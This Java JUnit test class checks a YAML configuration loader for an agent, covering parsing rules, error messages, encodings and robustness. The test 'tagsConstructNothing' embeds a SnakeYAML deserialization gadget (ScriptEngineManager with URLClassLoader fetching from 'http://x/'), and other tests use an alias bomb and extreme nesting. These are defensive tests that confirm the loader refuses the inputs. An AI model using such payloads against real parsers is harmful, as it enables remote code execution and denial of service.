package io.autobot.agent.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.File;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever the file is, there is one clear line, and the rest of the configuration holds. */
class ConfigFileTest {
    @TempDir
    Path directory;

    private Path file;

    @BeforeEach
    void name() {
        file = directory.resolve("autobot-agent.yaml");
    }

    /** Loads with an agent argument beside the file, which must always hold. */
    private Config load() {
        Config config = Config.load(new Sources()
                .agentArguments("log.level=warn")
                .jarDirectory(directory.toFile())
                .instrumentations(Set.of("jedis")));
        assertThat(config.sourceOf(Options.LOG_LEVEL)).isEqualTo(Source.ARGUMENTS);
        return config;
    }

    private Config load(String yaml) throws IOException {
        Files.writeString(file, yaml);
        return load();
    }

    private void assertOneLine(Config config, String end) {
        assertThat(config.problems()).containsExactly("configuration file " + file + end);
    }

    @Test
    void nestedAndDottedKeysMix() throws Exception {
        Config config = load("""
                endpoint:
                  tls.client-auth: want
                  tls:
                    keystore: /k
                "endpoint.port": "7"
                metrics.buckets:
                  autobot_a: [0.1, 1]
                  autobot_b:
                  - 1
                  - 2.5
                redis: {databases: {0: "x;y->z", "h:1/2": b}, server-stats: {interval: 2m}}
                """);

        assertThat(config.problems()).isEmpty();
        assertThat(config.get(Options.ENDPOINT_TLS_CLIENT_AUTH)).isEqualTo(ClientAuth.WANT);
        assertThat(config.get(Options.ENDPOINT_TLS_KEYSTORE)).isEqualTo(new File("/k"));
        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(7);
        assertThat(config.get(Options.METRICS_BUCKETS, "autobot_a")).containsExactly(0.1, 1);
        assertThat(config.get(Options.METRICS_BUCKETS, "autobot_b")).containsExactly(1, 2.5);
        assertThat(config.get(Options.REDIS_DATABASES)).isEqualTo(Map.of("0", "x;y->z", "h:1/2", "b"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"config", "config-file"})
    void theFileIsNamedByAnyOtherSource(String name) throws Exception {
        Path named = Files.writeString(directory.resolve(name + ",a.yml"), "endpoint.port: 7");
        Sources[] all = {
            new Sources().agentArguments("config=" + named.toString().replace(",", "\\,")),
            new Sources().systemProperties(Map.of("autobot.config", named.toString())),
            new Sources().environment(Map.of("AUTOBOT_CONFIG", named.toString()))
        };
        for (Sources sources : all) {
            Config config = Config.load(sources.jarDirectory(directory.toFile()));
            assertThat(config.problems()).isEmpty();
            assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(7);
        }
    }

    @Test
    void aNamedFileThatIsMissingIsSaidAndTheDefaultOneIsNotReadInstead() throws Exception {
        Files.writeString(file, "endpoint.port: 7");
        Config config = Config.load(new Sources()
                .systemProperties(Map.of("autobot.config", "/no/such.yaml"))
                .jarDirectory(directory.toFile()));

        assertThat(config.problems())
                .containsExactly("system property 'autobot.config': there is no file '/no/such.yaml'; "
                        + "the rest of the configuration holds");
        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(9465);
    }

    @Test
    void theFileCannotNameAnotherOne() throws Exception {
        assertOneLine(load("config: /x.yaml"), " line 1, 'config': cannot be set in the file itself; ignored");
    }

    @Test
    void anEmptyFile() throws Exception {
        assertOneLine(load(""), ": is empty; nothing is taken from it");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"# all commented out\n#port: 1\n", "---\n", "endpoint:\n  # port: 1\n", "{}", "endpoint: {}\n"})
    void aFileThatSaysNothingIsSilent(String yaml) throws Exception {
        assertThat(load(yaml).problems()).isEmpty();
    }

    @Test
    void aDirectory() throws Exception {
        Files.createDirectory(file);
        assertOneLine(load(), ": is a directory; name a file; nothing is taken from it");
    }

    @Test
    void aDevice() {
        assumeTrue(new File("/dev/zero").exists());
        Config config = Config.load(new Sources().agentArguments("config=/dev/zero"));
        assertThat(config.problems())
                .containsExactly("configuration file /dev/zero: is not a regular file; nothing is taken from it");
    }

    @Test
    void anUnreadableFile() throws Exception {
        // Readable for root, whatever its mode, are all files but those whose reading itself fails.
        File unreadable = new File("/proc/self/mem");
        assumeTrue(unreadable.isFile());
        Config config = Config.load(new Sources().agentArguments("port=7,config=" + unreadable));
        assertThat(config.problems())
                .singleElement()
                .asString()
                .startsWith("configuration file /proc/self/mem: cannot be read (")
                .endsWith("; nothing is taken from it");
        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(7);
    }

    @Test
    void aHugeFileIsNotRead() throws Exception {
        try (RandomAccessFile sparse = new RandomAccessFile(file.toFile(), "rw")) {
            sparse.setLength(200L << 20);
        }
        assertOneLine(load(), ": is larger than 1 MiB; nothing is taken from it");
    }

    @Test
    void tabsAndWhatStandsBeforeThemHolds() throws Exception {
        Config config = load("endpoint.host: here\nendpoint:\n\tport: 1\n");
        assertThat(config.problems()).singleElement().asString().contains(" line 3: ", "TAB", "what stands before");
        assertThat(config.get(Options.ENDPOINT_HOST)).isEqualTo("here");
        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(9465);
    }

    @Test
    void wrongTypesLeaveTheRest() throws Exception {
        Config config = load("""
                enabled: [true]
                endpoint:
                  port: {a: 1}
                  host: [a]
                  username: me
                metrics.buckets.autobot_a: {x: 1}
                metrics.buckets.autobot_b: [1, [2]]
                metrics.buckets.autobot_c: [1, ]
                metrics.buckets.autobot_d: []
                redis.databases: [a]
                redis.databases.0: {a: b}
                redis.databases.1: [a]
                """);
        assertThat(config.problems()).hasSize(9).allMatch(line -> line.contains(" line "));
        assertThat(config.problems().get(0))
                .endsWith(" line 1, 'enabled': a list stands where true or false belongs; ignored");
        assertThat(config.get(Options.ENDPOINT_USERNAME)).isEqualTo("me");
        assertThat(config.get(Options.METRICS_BUCKETS, "autobot_b")).isNull();
        assertThat(config.get(Options.METRICS_BUCKETS, "autobot_c")).containsExactly(1);
        assertThat(config.get(Options.REDIS_DATABASES)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"- a\n- b: c\n", "just words", "!!map {enabled: false}"})
    void aRootThatHoldsNoKeys(String yaml) throws Exception {
        Config config = load(yaml);
        assertThat(config.problems()).singleElement().asString().contains("line 1", "nothing is taken from it");
        assertThat(config.get(Options.ENABLED)).isTrue();
    }

    @Test
    void duplicateKeys() throws Exception {
        Config config = load("endpoint.port: 1\nendpoint:\n  port: 2\nredis.databases: {0: a, 0: b}\nlog: {}");
        assertThat(config.problems())
                .satisfiesExactly(
                        line -> assertThat(line).contains("line 3, 'endpoint.port': is set twice"),
                        line -> assertThat(line).contains("line 4, 'redis.databases.0': is set twice"));
        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(1);
        assertThat(config.get(Options.REDIS_DATABASES)).containsEntry("0", "a");
    }

    @Test
    void anAliasBomb() throws Exception {
        StringBuilder bomb = new StringBuilder("endpoint.port: 7\na: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'z'; c++) {
            String alias = "*" + (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [").append(alias);
            bomb.append((", " + alias).repeat(8)).append("]\n");
        }
        Config config = load(bomb.append("enabled: false\n").toString());

        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(7);
        assertThat(config.get(Options.ENABLED)).isFalse();
        assertThat(config.problems())
                .hasSizeLessThanOrEqualTo(21)
                .anyMatch(line -> line.contains("line 3, 'b': an alias"));
    }

    @Test
    void anchorsAreHarmlessAndAliasesAndMergesAreRefused() throws Exception {
        Config config = load("""
                endpoint: &e
                  port: &p 7
                  username: *p
                redis:
                  <<: *e
                  server-stats.interval: 5s
                *p : x
                log: {? [a, b] : {c: d}, ? {e: f} : [g], level: info}
                enabled: false
                """);
        assertThat(config.problems())
                .satisfiesExactly(
                        line -> assertThat(line).contains("line 3, 'endpoint.username': an alias"),
                        line -> assertThat(line).contains("line 5, 'redis.<<': an alias"),
                        line -> assertThat(line).contains("line 7: an alias"),
                        line -> assertThat(line).contains("line 8: a list or map stands where a key"),
                        line -> assertThat(line).contains("line 8: a list or map stands where a key"));
        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(7);
        assertThat(config.get(Options.REDIS_SERVER_STATS_INTERVAL)).hasSeconds(5);
        assertThat(config.get(Options.ENABLED)).isFalse();
    }

    @Test
    void tagsConstructNothing() throws Exception {
        Config config = load("""
                endpoint:
                  host: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                  username: !!str me
                  port: 7
                """);
        assertThat(config.problems()).hasSize(2).allMatch(line -> line.contains("a tag is not allowed"));
        assertThat(config.get(Options.ENDPOINT_HOST)).isEqualTo("0.0.0.0");
        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(7);
    }

    @Test
    void nestingCannotOverflowTheStack() throws Exception {
        List<String> deep = List.of(
                "a: " + "[".repeat(10_000) + "]".repeat(10_000),
                "a: " + "{a: ".repeat(10_000) + "}".repeat(10_000),
                "a: " + "[".repeat(500_000),
                "a:\n" + "- ".repeat(10_000),
                "? ".repeat(10_000));
        for (String yaml : deep) {
            Config config = load("endpoint.port: 7\n" + yaml + "\nenabled: false\n");
            assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(7);
            assertThat(config.problems()).isNotEmpty().last().asString().contains("what stands before it holds");
        }
    }

    @Test
    void whatIsNotUtf8IsIgnoredAndTheRestHolds() throws Exception {
        Files.write(
                file,
                "endpoint.port: 7\nendpoint.username: M\u00fcller\n\u00fc: x\nmetrics.buckets.a: [\u00fc]\nenabled: false\n"
                        .getBytes(StandardCharsets.ISO_8859_1));
        Config config = load();
        assertOneLine(config, " line 2: is not in UTF-8; keys and values with such characters are ignored");
        assertThat(config.get(Options.ENDPOINT_USERNAME)).isNull();
        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(7);
        assertThat(config.get(Options.ENABLED)).isFalse();
    }

    @Test
    void utf16AndBinaryAreRefused() throws Exception {
        Files.writeString(file, "enabled: false", StandardCharsets.UTF_16);
        assertOneLine(load(), ": is not a text in UTF-8; nothing is taken from it");
    }

    @Test
    void utf8HoldsWithItsByteOrderMarkToo() throws Exception {
        Config config = load("\ufeffendpoint.username: M\u00fcller \uD83D\uDE00\n");
        assertThat(config.problems()).isEmpty();
        assertThat(config.get(Options.ENDPOINT_USERNAME)).isEqualTo("M\u00fcller \uD83D\uDE00");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"x: \u0001", "x: 'open", "x: [a", "x: a: b", "x: @", "}", "%YAML 3.0\n---\nx: y", "\"\\x\": 1"})
    void brokenSyntaxIsOneLineAtMostBesideTheKeys(String yaml) throws Exception {
        Config config = load(yaml);
        assertThat(config.problems()).isNotEmpty().allMatch(line -> !line.contains("\n"));
        assertThat(config.problems()).last().asString().contains("what stands before it holds, nothing after it");
    }

    @Test
    void aSecondDocumentIsNotRead() throws Exception {
        Config config = load("endpoint.port: 7\n---\nenabled: false\n");
        assertOneLine(config, " line 2: a second document starts here; what stands before it holds, nothing after it");
        assertThat(config.get(Options.ENDPOINT_PORT)).isEqualTo(7);
        assertThat(config.get(Options.ENABLED)).isTrue();
    }

    @Test
    void keysWithoutAValueAreNotSetUnlessTheyAreUnknown() throws Exception {
        Config config = load("endpoint.port:\nendpoint.host: ~\nendpoint.username: null\nendpoint.usernam:\n");
        assertThat(config.problems()).singleElement().asString().contains("line 4, 'endpoint.usernam': no such key");
        assertThat(config.get(Options.ENDPOINT_HOST)).isEqualTo("0.0.0.0");
    }

    @Test
    void theCheckNamesWhatIsWrongWithAFile() throws Exception {
        Files.writeString(file, "endpont.port: 7\ninstrumentations.jediss.enabled: true\nenabled: true\n");

        assertThat(ConfigCheck.problems(file.toFile(), Set.of("jedis")))
                .containsExactly(
                        "configuration file " + file
                                + " line 1, 'endpont.port': no such key, the nearest is 'endpoint.port'; ignored",
                        "configuration file " + file + " line 2, 'instrumentations.jediss.enabled': no such key, "
                                + "the nearest is 'instrumentations.jedis.enabled'; ignored");
        assertThat(ConfigCheck.problems(directory.resolve("none").toFile(), Set.of()))
                .singleElement()
                .asString()
                .contains("there is no file");
        assertThat(ConfigCheck.ofEnvironment(Map.of("AUTOBOT_X", "1", "AUTOBOT_ENABLED", "perhaps"), Set.of()))
                .hasSize(2);
    }
}
